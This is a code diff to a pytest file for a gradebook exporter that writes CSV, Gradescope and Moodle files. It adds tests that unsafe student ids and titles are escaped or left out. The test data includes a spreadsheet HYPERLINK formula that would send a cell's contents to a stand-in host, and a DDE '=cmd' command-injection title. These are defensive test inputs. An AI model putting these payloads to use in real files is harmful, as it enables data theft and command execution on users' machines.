@@ -1,4 +1,4 @@
-"""Files of our own: a table for people, and one document for each student for an autograder."""
+"""Files of our own: a table for people, one for Moodle's gradebook, and a document a student for an autograder."""
 
 import csv
 import json
@@ -10,7 +10,10 @@ from hypothesis import strategies as st
 
 from checker.lms.gradebooks import ExportError, QuestionGrade
 from checker.lms.systems import export
+from checker.lms.systems.moodle import NO_CELL
 from checker.lms.tables import safe
+from tests.lms.importers import tables
+from tests.lms.importers.moodle_gradebook import Gradebook, RefusedBatchError, imported
 from tests.lms.people import POINTS, grade, only_file, request
 
 QUESTIONS = (
@@ -18,11 +21,9 @@ QUESTIONS = (
     QuestionGrade("essay", "", None, 2.0, "needs_review"),
 )
 DONE = tuple(question._replace(points=question.points or 0.5) for question in QUESTIONS)
-
-
-def documents(name, *grades, **more):
-    exported = export(name, request(*grades, **more))
-    return exported, {file: json.loads(data) for file, data in exported.files.items()}
+PEOPLE = st.lists(
+    st.tuples(st.text(max_size=8), st.text(max_size=8), POINTS), max_size=5, unique_by=lambda each: each[0]
+)
 
 
 @pytest.mark.parametrize(("name", "more", "message"), [
@@ -37,13 +38,6 @@ def test_a_wrong_request_is_an_error(name, more, message):
     assert str(error.value) == message
 
 
-def test_a_student_twice_is_an_error():
-    with pytest.raises(ExportError, match=r"^Ana Lee \(a\) is in the results twice; keep one"):
-        export("csv", request(grade("a", 1.0), grade("b", 1.0), grade("a", 2.0, name="Ana\nLee")))
-    with pytest.raises(ExportError, match="the points of a are not a number"):
-        export("csv", request(grade("a", float("nan"))))
-
-
 def test_csv_has_a_row_for_each_student_and_a_column_for_each_question():
     exported = export("csv", request(
         grade("a", None, name="=Ana", email="a@x", section="A", questions=QUESTIONS, max_points=3.0, comment="-good"),
@@ -56,7 +50,6 @@ def test_csv_has_a_row_for_each_student_and_a_column_for_each_question():
         "b,,,,,3,,,no,no,\r\n"
         "c,,,,3.33333,4,0.75,,yes,yes,\r\n"
     )
-    assert list(exported.files) == ["grades.csv"]
     assert exported.notes == (
         "Blank, because an answer is still to review: =Ana (a).",
         "Blank, because nothing was handed in: b.",
@@ -65,22 +58,23 @@ def test_csv_has_a_row_for_each_student_and_a_column_for_each_question():
     assert exported.changed == 1
 
 
-@given(
-    st.lists(st.tuples(st.text(max_size=8), st.text(max_size=8), POINTS), max_size=5, unique_by=lambda each: each[0])
-)
-def test_csv_holds_any_text_and_its_ids_are_a_roster(people):
+@given(PEOPLE)
+def test_csv_holds_any_text(people):
     exported = export("csv", request(*(grade(id_, points, name=name) for id_, name, points in people)))
     rows = list(csv.DictReader(StringIO(only_file(exported).decode(), newline="")))
     assert [(row["student"], row["name"]) for row in rows] == [(safe(id_), safe(name)) for id_, name, _ in people]
-    assert [row["points"] and float(row["points"]) for row in rows] == [
-        "" if points is None else points for *_, points in people
-    ]
+    points = [row["points"] and float(row["points"]) for row in rows]
+    assert points == ["" if each is None else each for *_, each in people]
+
+
+def gradescope(*grades, **more):
+    exported = export("gradescope", request(*grades, **more))
+    return exported, {file: json.loads(data) for file, data in exported.files.items()}
 
 
 def test_gradescope_shows_a_finished_result():
-    exported, files = documents(
-        "gradescope", grade("a", 1.25, max_points=3.0, questions=DONE, comment="Late: 1 point less")
-    )
+    finished = grade("a", 1.25, max_points=3.0, questions=DONE, comment="Late: 1 point less")
+    exported, files = gradescope(finished)
     assert files == {"a.json": {
         "score": 1.25, "output": "Late: 1 point less", "output_format": "text", "visibility": "visible", "stdout_visibility": "hidden",
         "tests": [
@@ -92,9 +86,8 @@ def test_gradescope_shows_a_finished_result():
 
 
 def test_gradescope_hides_a_result_with_an_answer_to_review_until_grades_are_published():
-    exported, files = documents(
-        "gradescope", grade("a", None, questions=QUESTIONS, so_far=0.75), grade("b", None, handed_in=False), scale=True
-    )
+    waiting, absent = grade("a", None, questions=QUESTIONS, so_far=0.75), grade("b", None, handed_in=False)
+    exported, files = gradescope(waiting, absent, scale=True)
     assert list(files) == ["a.json"]
     assert (files["a.json"]["score"], files["a.json"]["visibility"]) == (0.75, "after_published")
     assert files["a.json"]["tests"][1] == {
@@ -105,3 +98,59 @@ def test_gradescope_hides_a_result_with_an_answer_to_review_until_grades_are_pub
         "No file, because nothing was handed in: b.",
         "Points are written as they are: this format has no column to scale them to.",
     )
+
+
+def moodle(*grades, **more):
+    return export("moodle-gradebook", request(*grades, **more))
+
+
+def test_only_students_with_a_grade_get_a_row_in_the_table_for_moodle():
+    found = moodle(
+        grade("s1", 8.5, email="a@uni.edu"),
+        grade("s2", None, email="b@uni.edu"),
+        grade("s3", None, handed_in=False, email="c@x"),
+    )
+    assert found.files == {"moodle-gradebook.csv": b"Email address,Homework 1\r\na@uni.edu,8.5\r\n"}
+    assert imported(only_file(found), Gradebook({"a@uni.edu": 1, "b@uni.edu": 2}, {2: 4.0})) == {1: 8.5, 2: 4.0}
+    assert found.notes == (
+        "Left out, because an answer is still to review: s2.",
+        "Left out, because nothing was handed in: s3.",
+    )
+    assert found.steps[2] == "3. Under Identify user by, map from Email address to Email address."
+
+
+def test_grades_that_would_undo_the_whole_import_are_left_out():
+    found = moodle(grade("a", 101.0, max_points=200), grade("b", 100.0, max_points=200), grade("c", -1.0))
+    assert tables.read(only_file(found).decode()) == [["ID number", "Homework 1"], ["b", "100"]]
+    assert found.notes == ("Left out, because Moodle refuses all grades if one is not from 0 to 100: a; c.",)
+    with pytest.raises(RefusedBatchError, match="gradevaluetoobig"):
+        imported(b"ID number,x\na,101\n", Gradebook({"a": 1}))
+
+
+@pytest.mark.parametrize(
+    "id_", [" ", "0", " a", '=HYPERLINK("http://x.example/?"&A1)', "+1", "@x", "＝1", "\u202es1", "a\x1b[2Jb"]
+)
+def test_an_id_that_moodle_or_a_spreadsheet_would_not_take_for_itself_is_left_out(id_):
+    found = moodle(grade("a", 1.0), grade(id_, 2.0), grade("c", 3.0))
+    assert imported(only_file(found), Gradebook({"a": 1, "c": 3})) == {1: 1.0, 3: 3.0}
+    assert found.notes[0].startswith(f"{NO_CELL}: ")
+    assert found.changed == 2
+
+
+def test_the_table_for_moodle_has_email_addresses_if_all_differ():
+    found = moodle(grade("a", 1.0, email="x@uni.edu"), grade("b", 2.0, email="X@uni.edu"))
+    assert only_file(found) == b"ID number,Homework 1\r\na,1\r\nb,2\r\n"
+    assert "map from ID number to ID number or Username, whichever your ids are" in found.steps[2]
+
+
+def test_points_for_moodle_are_scaled_to_100():
+    found = moodle(grade("a", 150.0, max_points=200), scale=True)
+    assert tables.read(only_file(found).decode())[1] == ["a", "75"]
+    assert found.notes == ("Points are scaled to 100, the maximum of a new grade item in Moodle.",)
+    with pytest.raises(ExportError, match="no maximum to scale from"):
+        moodle(grade("a", 1.0, max_points=0), scale=True)
+
+
+def test_the_title_is_no_formula():
+    found = moodle(grade("a", 1.0), title="=cmd|' /C calc'!A0")
+    assert only_file(found) == b"ID number,'=cmd|' /C calc'!A0\r\na,1\r\n"
